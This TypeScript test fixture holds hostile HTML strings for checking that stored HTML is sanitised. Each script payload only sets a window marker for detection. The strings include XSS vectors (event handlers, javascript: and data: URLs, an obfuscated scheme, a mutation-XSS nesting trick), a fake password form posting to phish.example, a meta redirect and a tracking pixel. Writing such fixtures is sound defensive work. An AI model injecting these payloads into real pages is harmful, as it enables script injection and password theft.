import { hostileMark } from "./landmarks";

const buildMarkingScript = (id: number) => `window.${hostileMark}=${id}`;

/**
 * Malicious HTML, as websites and inboxes deliver it. All code that shows stored HTML must make it harmless. The
 * seed places it after ordinary text.
 */
export const hostileHtml: string[] = [
  `<p>A <b>light-filled</b> room.</p><script>${buildMarkingScript(1)}</script><img src=x onerror="${buildMarkingScript(2)}"><p style="position:fixed;inset:0;background:red">Winter prices from June.</p>`,
  `<p onclick="${buildMarkingScript(3)}">Ask about <a href="javascript:${buildMarkingScript(4)}">our brochure</a> or <a href="  java&#10;script:${buildMarkingScript(5)}">the menu</a>.</p><svg onload="${buildMarkingScript(6)}"><circle r="9"/></svg>`,
  `<p>Parking for 40 cars.<iframe src="data:text/html,<script>parent.${buildMarkingScript(7)}</script>"></iframe><object data="data:text/html;base64,PHNjcmlwdD4="></object></p><meta http-equiv="refresh" content="0;url=https://phish.example/">`,
  `<p>Heritage listed since 1911.<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${buildMarkingScript(8)}&gt;"></mglyph></table></mtext></math>`,
  `<p>Two bars, one kitchen.</p><form action="https://phish.example/collect" method="post"><input name="password" autofocus onfocus="${buildMarkingScript(9)}"><button>Sign in again</button></form><base href="https://phish.example/">`,
  `<div style="background:url(javascript:${buildMarkingScript(10)})"><p>Step-free access.<b>Lift to all floors<p>Unclosed <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">floor plan`,
  `</textarea></title></script><p>Dance floor included.</p><img src="https://tracker.example/pixel.gif?u=1" width=1 height=1><video><source onerror="${buildMarkingScript(11)}"></video><details open ontoggle="${buildMarkingScript(12)}">More</details>`,
  `<p>Private dining for twelve.</p><style>@import "https://phish.example/x.css"; body{display:none}</style><link rel="stylesheet" href="https://phish.example/x.css"><svg><a xlink:href="javascript:${buildMarkingScript(13)}"><text y="20">Menu</text></a><animate onbegin="${buildMarkingScript(14)}"/></svg>`,
];
